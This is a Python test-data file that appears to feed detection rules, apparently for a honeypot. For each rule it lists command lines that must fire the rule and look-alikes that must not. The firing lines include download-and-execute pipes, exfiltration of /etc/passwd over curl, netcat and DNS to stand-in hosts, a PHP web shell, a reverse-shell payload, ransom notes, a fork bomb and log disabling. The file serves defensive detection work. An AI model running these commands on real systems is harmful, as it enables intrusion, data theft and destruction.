# SPDX-License-Identifier: MIT
"""More command lines by rule: those that must fire it, and those that resemble them and must not."""

MORE_COMMANDS: dict[str, tuple[list[str], list[str]]] = {
    "dynamic_linker_hijack": (
        [
            "LD_PRELOAD=/tmp/libx.so ls",
            "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload",
            "export LD_PRELOAD=/dev/shm/a.so",
            "cp /tmp/p /etc/ld.so.preload",
        ],
        [
            "cat /etc/ld.so.preload",
            "ls /etc/ld.so.conf.d",
            "echo $LD_PRELOAD",
        ],
    ),
    "kernel_module_loaded": (
        [
            "insmod ./diamorphine.ko",
            "sudo insmod /tmp/r.ko",
            "modprobe msr",
            "echo rootkit >> /etc/modules",
        ],
        [
            "lsmod",
            "modinfo msr",
            "modprobe --version",
            "cat /etc/modules",
            "rmmod x",
        ],
    ),
    "shell_profile_modified": (
        [
            "echo '/tmp/.x &' >> ~/.bashrc",
            "echo 'nohup /tmp/m &' >> /etc/profile",
            "cat a >> .bash_profile",
            "echo x > /etc/profile.d/sys.sh",
            "echo x | tee -a /root/.profile",
        ],
        [
            "cat ~/.bashrc",
            "source ~/.profile",
            "ls -la /etc/profile.d/",
            "echo profile",
        ],
    ),
    "start_script_planted": (
        [
            "echo '/usr/bin/.sshd &' >> /etc/rc.local",
            "cp /tmp/DbSecuritySpt /etc/init.d/DbSecuritySpt",
            "ln -s /etc/init.d/x /etc/rc3.d/S99x",
            "sed -i '2i /tmp/a' /etc/rc.local",
        ],
        [
            "cat /etc/rc.local",
            "ls /etc/init.d",
            "/etc/init.d/ssh status",
        ],
    ),
    "at_job_planted": (
        [
            "echo '/tmp/x' | at now + 1 minute",
            "at -f /tmp/job now",
            "at 23:00",
            "echo /tmp/a | batch",
        ],
        [
            "atq",
            "cat at",
            "at",
            "echo look at now",
        ],
    ),
    "systemd_timer_planted": (
        [
            "echo '[Timer]' > /etc/systemd/system/upd.timer",
            "systemctl enable --now upd.timer",
            "systemd-run --on-calendar='*:0/5' /tmp/x",
        ],
        [
            "systemctl list-timers",
            "cat /lib/systemd/system/apt-daily.timer",
            "systemctl status apt-daily.timer",
        ],
    ),
    "setuid_bit_set": (
        [
            "chmod u+s /tmp/bash",
            "cp /bin/bash /tmp/b; chmod 4755 /tmp/b",
            "chmod +s /usr/bin/find",
            "setcap cap_setuid+ep /usr/bin/python3",
        ],
        [
            "chmod 755 x",
            "chmod 0644 y",
            "chmod +x s",
            "getcap -r /",
        ],
    ),
    "setuid_search": (
        [
            "find / -perm -4000 -type f 2>/dev/null",
            "find / -perm -u=s",
            "find /usr -perm /6000 -ls",
            "getcap -r / 2>/dev/null",
        ],
        [
            "find / -name x",
            "find . -perm 644",
            "getcap",
        ],
    ),
    "sudo_password_piped": (
        [
            "echo admin123 | sudo -S id",
            "echo toor|sudo -kS su",
            "sudo -S bash <<< toor",
        ],
        [
            "sudo -s",
            "sudo ls",
            "echo sudo -S",
        ],
    ),
    "other_account_entered": (
        [
            "su -",
            "su root",
            "su - oracle",
            "su -c id",
            "su",
        ],
        [
            "sum x",
            "echo su",
            "suspend",
            "cat su.txt",
        ],
    ),
    "authentication_modules_changed": (
        [
            "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd",
            "sed -i 's/required/sufficient/' /etc/pam.d/common-auth",
            "cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so",
        ],
        [
            "cat /etc/pam.d/sshd",
            "ls /etc/pam.d",
            "find / -name pam_unix.so",
        ],
    ),
    "ssh_daemon_reconfigured": (
        [
            "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config",
            "sed -i 's/#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config",
            "cp /tmp/c /etc/ssh/sshd_config",
        ],
        [
            "cat /etc/ssh/sshd_config",
            "grep Port /etc/ssh/sshd_config",
            "sed -n 1p /etc/ssh/sshd_config",
        ],
    ),
    "botnet_key_planted": (
        [
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAA mdrfckr'>>.ssh/authorized_keys",
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "rm -rf ~/.ssh; mkdir ~/.ssh; echo k > ~/.ssh/authorized_keys",
        ],
        [
            "mkdir .ssh",
            "ls -la ~/.ssh",
            "rm -rf x",
        ],
    ),
    "file_made_immutable": (
        [
            "chattr +i /root/.ssh/authorized_keys",
            "chattr +ia /etc/cron.d/x",
            "sudo chattr -R +i /tmp/.m",
        ],
        [
            "chattr -ia x",
            "lsattr",
            "echo chattr",
        ],
    ),
    "account_locked_out": (
        [
            "userdel -r admin",
            "passwd -l root",
            "usermod -L oracle",
            "deluser pi",
            "chage -E 0 git",
        ],
        [
            "passwd -S root",
            "useradd x",
            "usermod -aG docker x",
            "chage -l root",
        ],
    ),
    "hidden_file_made": (
        [
            "mkdir /tmp/.X11-x",
            "mkdir -p /dev/shm/.cache",
            "mkdir '...'",
            "curl http://198.51.100.7/a -o /tmp/.a",
            "cp m /usr/bin/.sshd",
        ],
        [
            "mkdir /tmp/x",
            "mkdir ~/.config",
            "ls -la /tmp",
            "mkdir .git",
        ],
    ),
    "interrupts_ignored": (
        [
            "nohup ./x &",
            "setsid /tmp/m -c c.json",
            "./a & disown",
            "screen -dmS sys ./m",
            "cd /tmp && nohup bash run.sh >/dev/null 2>&1 &",
        ],
        [
            "screen -ls",
            "cat nohup.out",
            "tmux ls",
            "echo nohup",
        ],
    ),
    "file_times_forged": (
        [
            "touch -r /bin/ls /bin/.x",
            "touch -acmr /bin/ls /etc/.m",
            "touch -d '2 years ago' x",
            "touch -t 202001010000 x",
            "date -s '2020-01-01'",
        ],
        [
            "touch x",
            "touch /tmp/a /tmp/b",
            "date",
            "touch -c x",
        ],
    ),
    "process_name_forged": (
        [
            "exec -a '[kworker/0:1]' /tmp/x",
            'bash -c "exec -a sshd ./m"',
            "./kswapd0",
            "mv m /tmp/kthreadd",
            "curl http://198.51.100.7/x -o kworker",
        ],
        [
            "ps aux | grep kworker",
            "exec bash",
            "cat kswapd.txt",
            "man kthreadd",
        ],
    ),
    "honeypot_looked_for": (
        [
            "systemd-detect-virt",
            "cat /proc/1/cgroup",
            "ls -la /.dockerenv",
            "cat /sys/class/dmi/id/product_name",
            "ls /opt/cowrie",
            "grep -i hypervisor /proc/cpuinfo",
            "sudo dmidecode -t system",
        ],
        [
            "cat /proc/cpuinfo",
            "ls /proc",
            "docker ps",
            "cat /sys/class/net/eth0/address",
        ],
    ),
    "audit_disabled": (
        [
            "auditctl -e 0",
            "auditctl -D",
            "systemctl stop auditd",
            "service auditd stop",
            "rm -rf /etc/audit/rules.d",
        ],
        [
            "auditctl -l",
            "systemctl status auditd",
            "ls /etc/audit",
            "ausearch -m execve",
        ],
    ),
    "logging_stopped": (
        [
            "systemctl stop rsyslog",
            "service rsyslog stop",
            "pkill rsyslogd",
            "echo 'Storage=none' > /etc/systemd/journald.conf",
            "/etc/init.d/syslog-ng stop",
        ],
        [
            "systemctl status rsyslog",
            "service rsyslog status",
            "cat /etc/rsyslog.conf",
            "systemctl restart nginx",
        ],
    ),
    "names_blocked": (
        [
            "echo '0.0.0.0 update.aegis.aliyun.com' >> /etc/hosts",
            "echo 127.0.0.1 pool.example | tee -a /etc/hosts",
            "echo ALL: ALL > /etc/hosts.deny",
        ],
        [
            "cat /etc/hosts",
            "grep db /etc/hosts",
            "ls /etc/hosts.deny",
        ],
    ),
    "compiled_after_delivery": (
        [
            "gcc exploit.c -o exploit",
            "cc -pthread dirty.c -o dirty -lcrypt",
            "cd /tmp/rk && make",
            "gcc -shared -fPIC -o h.so processhider.c",
        ],
        [
            "gcc --version",
            "which gcc",
            "make --version",
            "cat x.c",
        ],
    ),
    "executed_from_temporary_folder": (
        [
            "/tmp/x86",
            "sh /tmp/i.sh",
            "cd /tmp; ./bins.sh",
            "nohup /dev/shm/.m &",
            "cd /var/run && chmod +x m && ./m",
            "bash /var/tmp/a.sh",
        ],
        [
            "ls /tmp/x",
            "cat /tmp/x.sh",
            "cd /tmp",
            "./configure",
            "rm /tmp/a",
        ],
    ),
    "downloaded_and_executed": (
        [
            "curl -s http://198.51.100.7/i.sh | bash",
            "wget -qO- http://198.51.100.7/a | sh",
            "bash <(curl -fsSL http://198.51.100.7/a)",
            'sh -c "$(wget -qO- http://198.51.100.7/a)"',
            "cd /tmp; wget http://198.51.100.7/x86; chmod 777 x86; ./x86",
            "curl http://198.51.100.7/p.py | python3",
        ],
        [
            "curl http://198.51.100.7/ > x",
            "wget http://198.51.100.7/x",
            "cat x | sh",
            "echo curl | sh",
        ],
    ),
    "loader_shell_check": (
        [
            "/bin/busybox MIRAI",
            "enable; system; shell; sh; /bin/busybox ECCHI",
            "/bin/busybox ps; /bin/busybox LZRD",
            "cat /proc/mounts; /bin/busybox PEACH",
        ],
        [
            "/bin/busybox ls",
            "busybox --help",
            "busybox wget http://198.51.100.7/",
            "/bin/busybox cat /proc/mounts",
        ],
    ),
    "architecture_read": (
        [
            "dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
            "cat /bin/echo",
            "/bin/busybox dd bs=52 count=1 if=.s",
            "head -c 20 /bin/ls",
        ],
        [
            "cat /etc/os-release",
            "ls /bin/echo",
            "dd if=/dev/zero of=x bs=1M count=1",
        ],
    ),
    "security_software_discovery": (
        [
            "ps aux | grep falcon",
            "which clamscan rkhunter snort",
            "systemctl status wazuh-agent",
            "ls /opt/sentinelone",
            "pgrep osqueryd",
        ],
        [
            "ps aux | grep nginx",
            "systemctl stop auditd",
            "which python3",
            "echo snort",
        ],
    ),
    "software_discovery": (
        [
            "dpkg -l",
            "rpm -qa | grep kernel",
            "which gcc",
            "command -v curl",
            "pip list",
            "apt list --installed",
        ],
        [
            "dpkg --version",
            "which ls",
            "rpm",
            "apt update",
        ],
    ),
    "service_discovery": (
        [
            "systemctl list-units --type=service",
            "service --status-all",
            "chkconfig --list",
            "systemctl --type=service",
        ],
        [
            "systemctl status ssh",
            "systemctl stop nginx",
            "service ssh status",
        ],
    ),
    "remote_systems_discovery": (
        [
            "cat /etc/hosts",
            "cat ~/.ssh/known_hosts",
            "ip neigh",
            "arp -a",
            "awk '{print $1}' ~/.ssh/known_hosts",
            "cat /proc/net/arp",
        ],
        [
            "echo x >> /etc/hosts",
            "cat /etc/hostname",
            "ip addr",
            "ls ~/.ssh",
        ],
    ),
    "group_discovery": (
        [
            "groups",
            "getent group sudo",
            "id -Gn",
            "grep sudo /etc/group",
            "groups root",
        ],
        [
            "groupadd x",
            "id",
            "echo groups_",
            "ls group",
        ],
    ),
    "password_policy_discovery": (
        [
            "chage -l root",
            "cat /etc/login.defs",
            "grep PASS_MAX /etc/login.defs",
            "cat /etc/pam.d/common-password",
        ],
        [
            "chage -E 0 x",
            "ls /etc/pam.d",
            "cat /etc/passwd",
        ],
    ),
    "time_discovery": (
        [
            "date",
            "uptime",
            "timedatectl",
            "cat /etc/timezone",
            "cat /proc/uptime",
            "date +%s",
        ],
        [
            "date -s 2020-01-01",
            "echo update",
            "uptimed",
            "cat /etc/hosts",
        ],
    ),
    "location_discovery": (
        [
            "curl ipinfo.io/country",
            "curl -s ifconfig.me",
            "wget -qO- icanhazip.com",
            "locale",
            "curl http://ip-api.com/json",
        ],
        [
            "curl http://198.51.100.7/",
            "ifconfig",
            "echo locality",
        ],
    ),
    "internet_connection_check": (
        [
            "ping -c 1 8.8.8.8",
            "ping -c3 google.com",
            "curl -I https://www.google.com",
            "ping 1.1.1.1 -c 1",
        ],
        [
            "ping 192.0.2.1",
            "echo 8.8.8.8",
            "nslookup google.com",
        ],
    ),
    "driver_discovery": (
        [
            "lsmod",
            "lspci -v",
            "lshw -short",
            "cat /proc/modules",
            "modinfo kvm",
        ],
        [
            "ls mod",
            "cat lspci.txt",
            "insmod x.ko",
        ],
    ),
    "graphics_card_discovery": (
        [
            "nvidia-smi -q",
            "lspci | grep VGA",
            "lspci | grep -i --color 'vga\\|3d\\|2d'",
            "lshw -C display",
            "nvidia-smi --list-gpus | wc -l",
        ],
        [
            "lspci",
            "ls nvidia",
            "lshw -short",
        ],
    ),
    "storage_discovery": (
        [
            "lsblk",
            "cat /proc/mounts",
            "fdisk -l",
            "mount",
            "cat /etc/fstab",
            "blkid",
        ],
        [
            "mount /dev/sdb1 /mnt",
            "umount /mnt",
            "amount",
            "cat /proc/cpuinfo",
        ],
    ),
    "share_discovery": (
        [
            "showmount -e 192.0.2.4",
            "smbclient -L //192.0.2.4 -N",
            "smbmap -H 192.0.2.4",
            "rpcinfo -p 192.0.2.4",
        ],
        [
            "showmount",
            "mount",
            "smbclient --version",
        ],
    ),
    "logs_searched": (
        [
            "cat /var/log/auth.log",
            "grep Accepted /var/log/secure",
            "journalctl -u ssh",
            "lastlog",
            "tail -n 100 /var/log/syslog",
            "dmesg | tail",
        ],
        [
            "rm -rf /var/log/*",
            "ls /var/log",
            "echo > /var/log/auth.log",
            "journalctl --vacuum-time=1s",
        ],
    ),
    "modem_discovery": (
        [
            "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd",
            "mmcli -L",
            "cat /etc/smsd.conf",
        ],
        [
            "ls /dev",
            "ls /dev/ttyS0",
            "cat /var/log/syslog",
        ],
    ),
    "router_console_tried": (
        [
            "/ip cloud print",
            "/system resource print",
            "show version",
            "display version",
            "terminal length 0",
        ],
        [
            "ip addr",
            "showmount",
            "enabled",
            "/ip",
            "display x.png",
        ],
    ),
    "messenger_data_searched": (
        [
            "locate D877F783D5D3EF8Cs",
            "find / -name tdata",
            "ls ~/.local/share/TelegramDesktop",
            "cat ~/.purple/accounts.xml",
        ],
        [
            "ls ~/.local/share",
            "echo telegram",
            "find / -name data",
        ],
    ),
    "process_memory_read": (
        [
            "cat /proc/1234/environ",
            "strings /proc/$p/mem",
            "gcore 4711",
            "gdb -p 4711",
            "cat /proc/*/environ | tr '\\0' '\\n'",
        ],
        [
            "cat /proc/cpuinfo",
            "ls /proc/1",
            "cat /proc/meminfo",
            "gdb --version",
        ],
    ),
    "container_token_read": (
        [
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "cat ~/.kube/config",
            "cat /etc/kubernetes/admin.conf",
            "ls /run/secrets/kubernetes.io/serviceaccount",
        ],
        [
            "ls /var/run/secrets",
            "kubectl version",
            "cat /etc/kubernetes_notes",
        ],
    ),
    "cloud_cli_used": (
        [
            "aws sts get-caller-identity",
            "aws s3 ls",
            "gcloud auth list",
            "az account show",
            "aws iam list-users",
        ],
        [
            "aws --version",
            "laws s3",
            "az",
            "which aws",
        ],
    ),
    "browser_passwords_searched": (
        [
            "find / -name logins.json",
            "cp ~/.mozilla/firefox/x.default/key4.db /tmp",
            "python3 firefox_decrypt.py",
            "ls '/root/.config/google-chrome/Default/Login Data'",
        ],
        [
            "which firefox",
            "ls ~/.config",
            "cat cookies.txt",
        ],
    ),
    "password_store_searched": (
        [
            "find / -name '*.kdbx'",
            "ls ~/.password-store",
            "find / -name wallet.dat",
            "cat ~/.electrum/wallets/default_wallet",
            "ls ~/.local/share/keyrings/",
        ],
        [
            "ls wallet",
            "find / -name '*.db'",
            "gpg --version",
        ],
    ),
    "tool_credentials_read": (
        [
            "cat ~/.npmrc",
            "cat /root/.pypirc",
            "cat ~/.config/gh/hosts.yml",
            "find / -name terraform.tfstate",
            "cat .config/gcloud/credentials.db",
            "cat /srv/docker-compose.yml",
        ],
        [
            "cat ~/.vimrc",
            "npm install",
            "ls ~/.config",
            "docker compose up",
        ],
    ),
    "mail_read": (
        [
            "cat /var/mail/root",
            "ls -la /var/spool/mail",
            "grep -r password /home/bob/Maildir",
            "mail",
        ],
        [
            "cat mail.txt",
            "email",
            "ls /var/www",
        ],
    ),
    "database_dumped": (
        [
            "mysqldump -u root --all-databases > /tmp/d.sql",
            "pg_dump -U postgres app",
            "mysql -e 'show databases'",
            "sqlite3 app.db .dump",
            "mongodump --out /tmp/m",
        ],
        [
            "mysql --version",
            "which pg_dump",
            "cat dump.sql",
            "psql -l",
        ],
    ),
    "network_sniffed": (
        [
            "tcpdump -i eth0 -w /tmp/c.pcap",
            "sudo tshark -i any",
            "ngrep -q password",
            "ettercap -T -M arp",
            "tcpdump -nn port 21",
        ],
        [
            "tcpdump --version",
            "which tcpdump",
            "man tshark",
            "cat tcpdump.log",
        ],
    ),
    "input_captured": (
        [
            "strace -f -p $(pgrep -o sshd) -e trace=read",
            "strace -fp 812 -s 256 -o /tmp/.l",
            "logkeys --start",
            "cat /dev/input/event0",
        ],
        [
            "strace ls",
            "strace --version",
            "ls /dev/input",
            "cat events",
        ],
    ),
    "password_hashes_cracked": (
        [
            "john --wordlist=rockyou.txt hashes",
            "hashcat -m 1800 h.txt w.txt",
            "./hashcat -m 1000 a b",
            "fcrackzip -u x.zip",
        ],
        [
            "john",
            "which hashcat",
            "cat john.txt",
            "finger john",
        ],
    ),
    "guessing_from_decoy": (
        [
            "hydra -l root -P p.txt ssh://192.0.2.0/24",
            "medusa -h 192.0.2.5 -u root -P w -M ssh",
            "ncrack -p 22 192.0.2.4",
            "./crackmapexec smb 192.0.2.0/24",
        ],
        [
            "which hydra",
            "cat medusa.txt",
            "hydra",
        ],
    ),
    "windows_admin_share": (
        [
            "psexec.py corp/admin@192.0.2.5",
            "impacket-secretsdump corp/a:b@192.0.2.5",
            "smbclient //192.0.2.5/C$ -U admin",
            "evil-winrm -i 192.0.2.5 -u a -p b",
        ],
        [
            "smbclient --version",
            "which psexec.py",
            "cat wmiexec.txt",
        ],
    ),
    "spread_over_known_hosts": (
        [
            "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh $h 'curl http://198.51.100.7/i|sh' & done",
            "while read h; do scp x root@$h:/tmp; done < ips.txt",
            "for i in $(seq 1 254); do sshpass -p root ssh root@192.0.2.$i id; done",
        ],
        [
            "ssh root@192.0.2.5",
            "cat ~/.ssh/known_hosts",
            "for i in 1 2; do echo $i; done",
        ],
    ),
    "deployment_tool_used": (
        [
            "ansible all -m shell -a 'id'",
            "ansible-playbook -i h p.yml",
            "salt '*' cmd.run id",
            "pssh -h hosts.txt id",
        ],
        [
            "ansible --version",
            "salt",
            "puppet --version",
            "ls playbook.yml",
        ],
    ),
    "ssh_tunnel_from_decoy": (
        [
            "ssh -R 2222:localhost:22 u@198.51.100.7",
            "ssh -fN -D 1080 u@198.51.100.7",
            "./chisel client 198.51.100.7:8000 R:socks",
            "ngrok tcp 22",
            "cloudflared tunnel run",
            "socat TCP-LISTEN:8080,fork TCP:192.0.2.5:80",
        ],
        [
            "ssh -V",
            "ssh root@192.0.2.5",
            "which ngrok",
            "ssh-keygen -R host",
        ],
    ),
    "traffic_through_tor": (
        [
            "torsocks wget http://198.51.100.7/",
            "curl --socks5-hostname 127.0.0.1:9050 http://198.51.100.7/",
            "proxychains4 nmap 192.0.2.1",
            "wget http://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion/x",
        ],
        [
            "echo tor",
            "monitor",
            "cat torrc",
            "curl http://198.51.100.7/onion",
        ],
    ),
    "remote_access_tool": (
        [
            'bash -c "$(curl -fsSL https://gsocket.io/y)"',
            "./meshagent -install",
            "tmate -F",
            "wget https://download.anydesk.com/linux/anydesk.deb",
            "tailscale up --authkey k",
        ],
        [
            "which anydesk",
            "ps aux | grep teamviewer",
            "vnc",
        ],
    ),
    "post_exploitation_framework": (
        [
            "msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST=198.51.100.7 -f elf -o m",
            "./sliver-client",
            "wget http://198.51.100.7/beacon.elf",
            "msfconsole -q",
        ],
        [
            "echo metasploit",
            "man msfconsole",
            "ls",
        ],
    ),
    "escalation_script": (
        [
            "curl -L http://198.51.100.7/linpeas.sh | sh",
            "./LinEnum.sh -t",
            "wget http://198.51.100.7/pspy64",
            "perl linux-exploit-suggester-2.pl",
        ],
        [
            "ls lines",
            "cat linen.txt",
            "uname -a",
        ],
    ),
    "kernel_exploit": (
        [
            "./dirtypipe /etc/passwd",
            "gcc -pthread 40839.c -o d",
            "git clone https://github.example/CVE-2021-4034",
            "wget http://198.51.100.7/pwnkit",
            "python3 CVE-2023-4911.py",
        ],
        [
            "echo cve",
            "ls dirty",
            "cat pipe",
        ],
    ),
    "sent_by_http": (
        [
            "curl -F 'file=@/etc/passwd' http://198.51.100.7/u",
            "curl -T /tmp/o.tgz http://198.51.100.7/",
            "wget --post-file=/etc/shadow http://198.51.100.7/",
            "cat /etc/passwd | curl -d @- http://198.51.100.7/",
            'curl -d "h=$(hostname)" http://198.51.100.7/',
        ],
        [
            "curl http://198.51.100.7/",
            "curl -o x http://198.51.100.7/x",
            "wget http://198.51.100.7/post-file",
        ],
    ),
    "sent_to_cloud_storage": (
        [
            "curl --upload-file ./x https://transfer.sh/x",
            "rclone copy /data remote:d",
            "cat /etc/passwd | nc termbin.com 9999",
            "curl https://api.telegram.org/bot1:a/sendMessage -d text=x",
            "aws s3 cp /tmp/d s3://b/",
        ],
        [
            "rclone --version",
            "curl http://198.51.100.7/file",
            "aws s3 ls",
        ],
    ),
    "sent_by_netcat": (
        [
            "nc 198.51.100.7 9999 < /etc/passwd",
            "tar cz /etc | nc 198.51.100.7 9999",
            "cat /etc/passwd > /dev/tcp/198.51.100.7/80",
            "base64 x | ncat -w 3 198.51.100.7 53",
        ],
        [
            "nc -lvp 4444",
            "nc -zv 192.0.2.1 22",
            "cat x | grep y",
        ],
    ),
    "sent_by_dns": (
        [
            "dig $(whoami).x.example",
            "nslookup `hostname`.x.example",
            "for b in $(xxd -p /etc/passwd); do host $b.x.example; done",
            "ping -c1 $(id -u).x.example",
        ],
        [
            "dig example.com",
            "host $h",
            "ping -c 1 192.0.2.1",
            "nslookup example.com",
        ],
    ),
    "archive_split": (
        [
            "split -b 10M o.tgz part.",
            "zip -r -s 50m x.zip /srv",
            "7z a -v100m o.7z /home",
            "split --bytes=1M db.sql",
        ],
        [
            "split x",
            "zip -r x.zip y",
            "git split",
        ],
    ),
    "data_staged": (
        [
            "cp -r /etc/nginx /tmp/o",
            "find / -name '*.pem' -exec cp {} /tmp/k \\;",
            "cp /home/bob/*.pdf /dev/shm/",
            "cp /etc/shadow /tmp/s",
        ],
        [
            "cp a b",
            "cp /tmp/x /etc/x",
            "mv /tmp/a /tmp/b",
        ],
    ),
    "package_installed": (
        [
            "apt-get install -y masscan",
            "yum -y install gcc make",
            "apk add curl",
            "pip install requests",
            "dpkg -i x.deb",
        ],
        [
            "apt update",
            "apt list",
            "dpkg -l",
            "npm --version",
        ],
    ),
    "container_started": (
        [
            "docker run -d evil/xmrig",
            "kubectl apply -f http://198.51.100.7/d.yaml",
            "docker-compose up -d",
            "podman run --rm alpine sh",
        ],
        [
            "docker ps",
            "kubectl get pods",
            "docker --version",
        ],
    ),
    "container_entered": (
        [
            "docker exec -it web sh",
            "kubectl exec -it web -- bash",
            "kubectl -n kube-system exec p -- id",
            "crictl exec -it 1 sh",
        ],
        [
            "docker ps",
            "docker run x",
            "kubectl get pods",
            "exec bash",
        ],
    ),
    "files_encrypted": (
        [
            "openssl enc -aes-256-cbc -in a.sql -out a.enc -k secret",
            "for f in /home/*; do gpg --batch --passphrase x -c $f; done",
            "find /srv -type f -exec openssl aes-256-cbc -in {} -out {}.enc -k p \\;",
            "mv db.sql db.sql.locked",
        ],
        [
            "openssl version",
            "openssl enc -d -aes-256-cbc -in x -k p",
            "gpg --list-keys",
            "mv a b",
        ],
    ),
    "ransom_note_left": (
        [
            "echo 'Your files are encrypted. Send 0.1 BTC' > /root/README.txt",
            "echo 'to decrypt write to x@onionmail.org' >> /etc/motd",
            "printf 'pay bitcoin' > HOW_TO_RECOVER.txt",
        ],
        [
            "echo hello > README.md",
            "cat README",
            "echo bitcoin",
        ],
    ),
    "web_page_defaced": (
        [
            "echo hacked > /var/www/html/index.html",
            "curl http://198.51.100.7/d -o /usr/share/nginx/html/index.html",
            "echo owned > /etc/motd",
        ],
        [
            "cat /var/www/html/index.html",
            "ls /var/www/html",
            "cat /etc/motd",
        ],
    ),
    "web_shell_written": (
        [
            "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/x.php",
            "wget http://198.51.100.7/s.txt -O /var/www/html/s.php",
            "cp /tmp/s.war /opt/tomcat/webapps/s.war",
        ],
        [
            "cat /var/www/html/index.php",
            "php -v",
            "ls /var/www",
        ],
    ),
    "system_stopped": (
        [
            "reboot",
            "shutdown -h now",
            "sudo poweroff",
            "init 6",
            "echo b > /proc/sysrq-trigger",
        ],
        [
            "last reboot",
            "init",
            "echo halt",
            "shutdownd",
        ],
    ),
    "recovery_inhibited": (
        [
            "rm -rf /backup/*",
            "lvremove -f vg/snap",
            "zfs destroy -r tank@daily",
            "rm -f db.sql.bak",
            "restic forget --keep-last 0",
        ],
        [
            "ls /backup",
            "zfs list",
            "rm x",
            "borg list",
        ],
    ),
    "fork_bomb": (
        [
            ":(){ :|:& };:",
            ":() { : | : & } ; :",
            "while true; do yes & done",
        ],
        [
            "while true; do date; sleep 1; done",
            "f(){ echo x; }",
            "yes | head",
        ],
    ),
    "flood_tool": (
        [
            "hping3 -S --flood -p 80 192.0.2.5",
            "python3 udp-flood.py 192.0.2.5 80",
            "perl slowloris.pl -dns 192.0.2.5",
            "ab -n 100000 -c 1000 http://192.0.2.5/",
            "ping -f 192.0.2.5",
        ],
        [
            "ping -c 1 192.0.2.5",
            "hping3 --version",
            "ab -V",
            "cat flood.txt",
        ],
    ),
    "miner_tuning": (
        [
            "sysctl -w vm.nr_hugepages=128",
            "echo 128 > /proc/sys/vm/nr_hugepages",
            "wrmsr -a 0x1a4 0xf",
            "modprobe msr allow_writes=on",
        ],
        [
            "cat /proc/sys/vm/nr_hugepages",
            "grep Huge /proc/meminfo",
            "sysctl -a",
        ],
    ),
}
